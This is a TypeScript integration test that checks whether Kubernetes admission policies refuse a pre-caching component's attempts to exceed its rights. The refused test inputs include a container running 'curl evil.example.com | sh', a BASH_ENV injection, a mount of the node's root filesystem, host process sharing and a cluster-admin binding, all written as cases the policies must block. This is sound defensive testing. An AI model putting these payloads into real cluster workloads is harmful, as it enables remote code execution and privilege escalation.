import { setTimeout as sleep } from "node:timers/promises";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type KubernetesHub, kubernetesHub } from "#shared/adapters/hub/kubernetes/kubernetes-hub.ts";
import type { KubernetesObject } from "#shared/domain/kubernetes/object.ts";
import { referenceTo } from "#shared/domain/kubernetes/object.ts";
import { manifestWork, withSuspend } from "#shared/domain/precache/work/manifest-work.ts";
import { HubError } from "#shared/ports/hub.ts";
import { aRun, release } from "../support/precache/precache-objects.ts";
import { anUpgrade } from "../support/precache/precache-plan-objects.ts";
import { startHub, type TestHub } from "./support/clusters/hub.ts";
import { hubAccounts } from "./support/clusters/process-accounts.ts";
import { createManifest } from "./support/manifests/apply-manifests.ts";
import { asNew } from "./support/observe/as-new.ts";

const cluster = "team-a";
const content = { platformImage: release, additionalImages: [release], spaceRequired: "45" };
const hints = { bandwidthMbits: 20, parallelPulls: 4 };
const input = { run: aRun, content, image: "quay.io/hubrelay/precache:v1", timeoutMinutes: 240, ...hints };
const own = manifestWork(cluster, input);

type Fields = Record<string, unknown>;
/** A copy of the function's own work with a change in the manifest of this kind. */
function changed(kind: string, change: (manifest: Fields) => void): KubernetesObject {
  const copy = structuredClone(own);
  const manifests: readonly Fields[] = Object(copy.spec).workload.manifests;
  const found = manifests.find((manifest) => manifest.kind === kind);
  if (!found) throw new Error(`the work has no ${kind}`);
  change(found);
  return copy;
}
const changedPod = (change: (pod: Fields & { containers: Fields[]; volumes: Fields[] }) => void) =>
  changed("Job", ({ spec }) => change(Object(spec).template.spec));
const changedSpec = (change: (spec: Fields) => void): KubernetesObject => {
  const copy = structuredClone(own);
  change(Object(copy.spec));
  return copy;
};
const more = (manifest: object) => changedSpec((spec) => Object(spec.workload).manifests.push(manifest));

/** The content of works before the node's own kubelet configuration was read. */
const nodesProxy = {
  apiVersion: "rbac.authorization.k8s.io/v1",
  kind: "ClusterRole",
  metadata: { name: "hubrelay-pre-cache" },
  rules: [{ apiGroups: [""], resources: ["nodes/proxy"], verbs: ["get"] }],
};
const nodesProxyBinding = {
  ...nodesProxy,
  kind: "ClusterRoleBinding",
  rules: undefined,
  roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "hubrelay-pre-cache" },
  subjects: [{ kind: "ServiceAccount", name: "pre-cache-agent", namespace: "openshift-talo-pre-cache" }],
};
/** A work as an earlier version created it: with permissions on nodes and a Job without a memory limit. */
function asBefore(): KubernetesObject {
  const work = changedPod(({ containers: [container] }) => {
    const { env } = Object(container);
    env.push({ name: "NODE_NAME", valueFrom: { fieldRef: { fieldPath: "spec.nodeName" } } });
    delete Object(container).resources;
  });
  const { manifests } = Object(work.spec).workload;
  manifests.push(nodesProxy, nodesProxyBinding);
  return work;
}

const refusedWorks: readonly Readonly<{ name: string; work: KubernetesObject; says: string }>[] = [
  {
    name: "When a work has another program's name, it should be refused",
    work: { ...own, metadata: { ...own.metadata, name: "addon-work-manager" } },
    says: "its own ManifestWorks only",
  },
  {
    name: "When a work chooses the account that applies it, it should be refused",
    work: changedSpec((spec) => {
      const serviceAccount = { namespace: "kube-system", name: "root" };
      spec.executor = { subject: { type: "ServiceAccount", serviceAccount } };
    }),
    says: "with the rights of the cluster's agent",
  },
  {
    name: "When a work contains a Secret, it should be refused",
    work: more({
      apiVersion: "v1",
      kind: "Secret",
      metadata: { name: "s", namespace: "openshift-talo-pre-cache" },
    }),
    says: "stays in its own namespace",
  },
  {
    name: "When a work contains a DaemonSet under the kind Job, it should be refused",
    work: changed("Job", (job) => (job.apiVersion = "apps/v1")),
    says: "stays in its own namespace",
  },
  {
    name: "When a work has an object in another namespace, it should be refused",
    work: changed("Job", ({ metadata }) => (Object(metadata).namespace = "kube-system")),
    says: "stays in its own namespace",
  },
  {
    name: "When a work contains a ClusterRole, even for the kubelet only, it should be refused",
    work: more(nodesProxy),
    says: "stays in its own namespace",
  },
  {
    name: "When a work binds a ClusterRole in every namespace, it should be refused",
    work: more(nodesProxyBinding),
    says: "stays in its own namespace",
  },
  {
    name: "When a Role reads every ConfigMap, it should be refused",
    work: changed(
      "Role",
      (role) => (role.rules = [{ apiGroups: [""], resources: ["configmaps"], verbs: ["get"] }]),
    ),
    says: "write its progress only",
  },
  {
    name: "When the account becomes an administrator, it should be refused",
    work: changed("RoleBinding", ({ roleRef }) => (Object(roleRef).name = "cluster-admin")),
    says: "its own roles and the privileged constraint",
  },
  {
    name: "When another subject is bound, it should be refused",
    work: changed(
      "RoleBinding",
      (binding) => (binding.subjects = [{ kind: "Group", name: "system:serviceaccounts" }]),
    ),
    says: "Only the workload's account may be bound",
  },
  {
    name: "When the pod joins the node's processes, it should be refused",
    work: changedPod((pod) => (pod.hostPID = true)),
    says: "shares only its mounts with the node",
  },
  {
    name: "When the pod has a second container, it should be refused",
    work: changedPod(({ containers }) => containers.push({ name: "x", image: "quay.io/evil/x" })),
    says: "one container",
  },
  {
    name: "When the container runs something else, it should be refused",
    work: changedPod(
      ({ containers: [container] }) => (Object(container).args = ["curl evil.example.com | sh"]),
    ),
    says: "the workload's own script",
  },
  {
    name: "When the container's shell gets a startup file, it should be refused",
    work: changedPod(({ containers: [container] }) =>
      Object(container).env.push({ name: "BASH_ENV", value: "/etc/config/platform.image" }),
    ),
    says: "with its own settings",
  },
  {
    name: "When the container may use all memory of the node, it should be refused",
    work: changedPod(({ containers: [container] }) => delete Object(container).resources),
    says: "a memory limit",
  },
  {
    name: "When the Job has no deadline, it should be refused",
    work: changed("Job", ({ spec }) => delete Object(spec).activeDeadlineSeconds),
    says: "a deadline",
  },
  {
    name: "When the pod mounts the whole node, it should be refused",
    work: changedPod(({ volumes }) => volumes.push({ name: "host-root", hostPath: { path: "/" } })),
    says: "write its image storage only",
  },
  {
    name: "When the pod may write the node's programs, it should be refused",
    work: changedPod(({ containers: [container] }) => {
      for (const mount of Object(container).volumeMounts) delete mount.readOnly;
    }),
    says: "write its image storage only",
  },
];

describe("a client with an account of pre-caching", () => {
  let server: TestHub;
  let person: KubernetesHub;
  const cleanup = new AsyncDisposableStack();
  const clients = new Map<string, KubernetesHub>();
  let cgu: KubernetesObject;

  const as = (account: string): KubernetesHub => {
    const client = clients.get(account);
    if (!client) throw new Error(`no such account: ${account}`);
    return client;
  };
  /** The API server's response; "taken" when it accepts the request. */
  async function responseTo(request: Promise<unknown>): Promise<string> {
    try {
      await request;
      return "taken";
    } catch (error) {
      if (error instanceof HubError) return error.message;
      throw error;
    }
  }

  /** Repeats a request until it is refused with this message. */
  async function untilTold(says: string, request: () => Promise<KubernetesObject>): Promise<void> {
    for (let patience = 100; patience > 0; patience--) {
      if ((await responseTo(request())).includes(says)) return;
      await sleep(100);
    }
    throw new Error(`the policies are not applied: no refusal contains "${says}"`);
  }

  beforeAll(async () => {
    server = await startHub();
    cleanup.defer(() => server.stop());
    person = cleanup.adopt(kubernetesHub(server.admin.kubeConfig), (hub) => hub.close());
    const userAccessOf = await hubAccounts(server);
    for (const account of ["precache-plan", "precache-cluster", "precache-status"]) {
      const { kubeConfig } = await userAccessOf(`hubrelay-${account}`);
      clients.set(
        account,
        cleanup.adopt(kubernetesHub(kubeConfig), (hub) => hub.close()),
      );
    }
    for (const name of [cluster, "ztp"])
      await createManifest(server.api, { apiVersion: "v1", kind: "Namespace", metadata: { name } });
    const stored = await person.create(
      asNew(anUpgrade({}, { annotations: { owner: "team-a", "hubrelay.dev/retry": "sno1" } })),
    );
    const precaching = { spec: { platformImage: release, spaceRequired: "45" }, clusters: ["sno1", "sno2"] };
    const lastTransitionTime = "2026-03-01T02:00:00Z";
    const valid = {
      type: "Validated",
      status: "True",
      reason: "ValidationCompleted",
      message: "",
      lastTransitionTime,
    };
    cgu = await person.updateStatus({ ...stored, status: { conditions: [valid], precaching } });
    // The API server applies policies shortly after they are stored. Each attempt writes another value, so that it is a
    // change.
    const another = () => [String(performance.now())];
    const otherName = { ...own, metadata: { ...own.metadata, name: "other" } };
    await untilTold("own ManifestWorks only", () => as("precache-cluster").create(otherName));
    await untilTold("but enable", () => as("precache-plan").update(withSpec({ clusters: another() })));
    await untilTold("Only planning", () =>
      as("precache-status").updateStatus(withPrecaching({ clusters: another() })),
    );
  });
  afterAll(() => cleanup.disposeAsync());

  const withSpec = (fields: object): KubernetesObject => ({
    ...cgu,
    spec: { ...Object(cgu.spec), ...fields },
  });
  const withMetadata = (metadata: object): KubernetesObject => ({
    ...cgu,
    metadata: { ...cgu.metadata, ...metadata },
  });
  const withStatus = (fields: object): KubernetesObject => ({
    ...cgu,
    status: { ...Object(cgu.status), ...fields },
  });
  const withPrecaching = (fields: object): KubernetesObject =>
    withStatus({ precaching: { ...Object(cgu.status).precaching, ...fields } });

  test.for(refusedWorks)("$name", async ({ work, says }) => {
    expect(await responseTo(as("precache-cluster").create(work))).toContain(says);
  });

  test("When a work is what the function creates, it should be admitted, suspended, resumed and removed", async () => {
    const hub = as("precache-cluster");
    const stored = await hub.create(own);
    const suspended = withSuspend(stored, true);
    const resumed = suspended && withSuspend(await hub.update(suspended), false);
    if (resumed) await hub.update(resumed);
    await hub.delete({ ...referenceTo(own) });
  });

  test("When a work of an earlier version runs, it should be suspended, resumed and removed, but not changed", async () => {
    const hub = as("precache-cluster");
    const stored = await person.create(asBefore());
    const suspended = withSuspend(stored, true);
    const resumed = suspended && withSuspend(await hub.update(suspended), false);
    const latest = resumed && (await hub.update(resumed));
    const evil = structuredClone(latest ?? stored);
    const { manifests } = Object(evil.spec).workload;
    const job = manifests.find(({ kind }: KubernetesObject) => kind === "Job");
    job.spec.template.spec.containers[0].image = "quay.io/evil/x";
    expect(await responseTo(hub.update(evil))).toContain("with its own settings");
    await hub.delete({ ...referenceTo(own) });
  });

  test("When a work of another program exists, it should be neither changed nor removed", async () => {
    const theirs = await person.create({ ...own, metadata: { namespace: cluster, name: "precache-like" } });
    expect(await responseTo(as("precache-status").delete(referenceTo(theirs)))).toContain(
      "its own ManifestWorks only",
    );
    const taken = { ...theirs, metadata: { ...theirs.metadata, labels: own.metadata.labels ?? {} } };
    expect(await responseTo(as("precache-cluster").update(taken))).toContain("its own ManifestWorks only");
  });

  test.for<Readonly<{ name: string; account: string; change: () => KubernetesObject; says: string }>>([
    {
      name: "When planning selects the clusters of the rollout, it should be refused",
      account: "precache-plan",
      change: () => withSpec({ clusters: ["sno9"] }),
      says: "no field of a ClusterGroupUpgrade but enable",
    },
    {
      name: "When planning omits the policies, it should be refused",
      account: "precache-plan",
      change: () => withSpec({ managedPolicies: undefined }),
      says: "no field of a ClusterGroupUpgrade but enable",
    },
    {
      name: "When planning writes a foreign annotation, it should be refused",
      account: "precache-plan",
      change: () => withMetadata({ annotations: { ...cgu.metadata.annotations, owner: "me" } }),
      says: "changes no other",
    },
    {
      name: "When planning lets a rollout start automatically, it should be refused",
      account: "precache-plan",
      change: () =>
        withMetadata({ annotations: { ...cgu.metadata.annotations, "hubrelay.dev/precaching": "true" } }),
      says: "changes no other",
    },
    {
      name: "When planning adds a finalizer, it should be refused",
      account: "precache-plan",
      change: () => withMetadata({ finalizers: ["example.com/held"] }),
      says: "no labels and no finalizers",
    },
    {
      name: "When following enables the rollout, it should be refused",
      account: "precache-status",
      change: () => withSpec({ enable: true }),
      says: "no field of a ClusterGroupUpgrade but enable",
    },
    {
      name: "When following requests a retry itself, it should be refused",
      account: "precache-status",
      change: () => withMetadata({ annotations: { owner: "team-a", "hubrelay.dev/retry": "failed" } }),
      says: "changes no other",
    },
  ])("$name", async ({ account, change, says }) => {
    expect(await responseTo(as(account).update(change()))).toContain(says);
  });

  test.for<Readonly<{ name: string; change: () => KubernetesObject; says: string }>>([
    {
      name: "When it plans other clusters, it should be refused",
      change: () => withPrecaching({ clusters: ["sno9"] }),
      says: "Only planning may change what is pre-cached",
    },
    {
      name: "When it plans other images, it should be refused",
      change: () => withPrecaching({ spec: { platformImage: "quay.io/evil/release", spaceRequired: "45" } }),
      says: "Only planning may change what is pre-cached",
    },
    {
      name: "When it reports that the whole upgrade has succeeded, it should be refused",
      change: () => {
        const [valid] = Object(cgu.status).conditions;
        return withStatus({ conditions: [valid, { ...valid, type: "Succeeded" }] });
      },
      says: "the condition PrecachingSuceeded only",
    },
    {
      name: "When it writes the status of the rollout, it should be refused",
      change: () => withStatus({ clusters: [{ name: "sno1", state: "complete" }] }),
      says: "status.precaching of a ClusterGroupUpgrade only",
    },
  ])("Of the status, $name", async ({ change, says }) => {
    for (const account of ["precache-cluster", "precache-status"])
      expect(await responseTo(as(account).updateStatus(change()))).toContain(says);
  });

  test("When they write what the functions write, it should be admitted", async () => {
    cgu = await as("precache-cluster").updateStatus(withPrecaching({ status: { sno1: "PreparingToStart" } }));
    const conditions = [
      ...Object(cgu.status).conditions,
      {
        ...Object(cgu.status).conditions[0],
        type: "PrecachingSuceeded",
        status: "False",
        reason: "InProgress",
      },
    ];
    cgu = await as("precache-status").updateStatus(withStatus({ conditions }));
    const { "hubrelay.dev/retry": _retry, ...annotations } = cgu.metadata.annotations ?? {};
    cgu = await as("precache-status").update(withMetadata({ annotations }));
    const noted = {
      ...annotations,
      "hubrelay.dev/workload-image": "quay.io/acme/workload:v1",
      "hubrelay.dev/outcomes": "[]",
    };
    cgu = await as("precache-plan").update(withMetadata({ annotations: noted }));
    cgu = await as("precache-plan").update(withSpec({ enable: true }));
    expect(await responseTo(as("precache-plan").update(withSpec({ enable: false })))).toContain(
      "may only enable a rollout",
    );
  });
});
